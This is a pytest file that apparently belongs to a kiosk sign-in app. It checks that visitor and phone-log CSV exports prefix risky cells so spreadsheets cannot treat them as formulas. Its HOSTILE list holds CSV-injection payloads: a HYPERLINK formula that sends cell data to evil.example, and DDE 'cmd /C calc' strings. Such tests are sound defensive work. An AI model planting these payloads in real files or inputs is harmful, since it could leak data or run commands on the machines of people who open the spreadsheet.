"""Exported CSV opens safely in a spreadsheet: no cell can start a formula."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from kiosk.domain.records import PHONE_FIELDS, VISIT_FIELDS
from kiosk.services.context import KioskContext
from kiosk.services.outputs.csv_safety import FORMULA_STARTS, neutralise, to_csv
from tests.admin.seeding import phone, visit

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '"=1+1"',
]


def read_back(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_visitor_fields_are_neutralised(context: KioskContext, admin, tmp_path, hostile):
    # Names are checked on the kiosk's form; these go straight to the service, as a record
    # restored from elsewhere might, so the export is safe whatever is in the file.
    record = visit(context, "2026-11-24T09:00:00", name=hostile, organisation=hostile,
                   host=hostile, signed_out="2026-11-24T10:00:00")  # fmt: skip
    out = tmp_path / "visits.csv"

    assert admin("export", "visits", "--output", str(out)).returncode == 0

    rows = read_back(out)
    assert rows[0] == list(VISIT_FIELDS)
    row = dict(zip(VISIT_FIELDS, rows[1], strict=True))
    for name in ("name", "organisation", "host"):
        cell = row[name]
        expected = "'" + hostile if hostile.startswith(FORMULA_STARTS) else hostile
        assert cell == expected
        assert not cell.startswith(FORMULA_STARTS)
    assert row["id"] == record["id"]


def test_hostile_phone_fields_are_neutralised(context: KioskContext, admin, tmp_path) -> None:
    phone(context, "2026-11-24T08:00:00", pupil="=HYPERLINK(\"x\")", class_name="+1",
          description="@SUM(1)", bag_label="-1", note="\tnote")  # fmt: skip
    out = tmp_path / "phones.csv"

    assert admin("export", "phones", "--output", str(out)).returncode == 0

    row = dict(zip(PHONE_FIELDS, read_back(out)[1], strict=True))
    assert row["pupil_name"] == '\'=HYPERLINK("x")'
    assert row["class_name"] == "'+1"
    assert row["description"] == "'@SUM(1)"
    assert row["bag_label"] == "'-1"
    assert row["note"] == "'\tnote"
    for cell in row.values():
        assert not cell.startswith(FORMULA_STARTS)


def test_every_field_is_quoted_and_harmless_text_is_unchanged() -> None:
    text = to_csv([{"a": 'Say "hi", please', "b": "O'Neill", "c": "line\nbreak", "d": True}],
                  ["a", "b", "c", "d"])  # fmt: skip
    assert text == '"a","b","c","d"\r\n"Say ""hi"", please","O\'Neill","line\nbreak","true"\r\n'
    assert neutralise("Acme = Roofing") == "Acme = Roofing"
    assert neutralise("2026-11-24T09:00:00+00:00") == "2026-11-24T09:00:00+00:00"
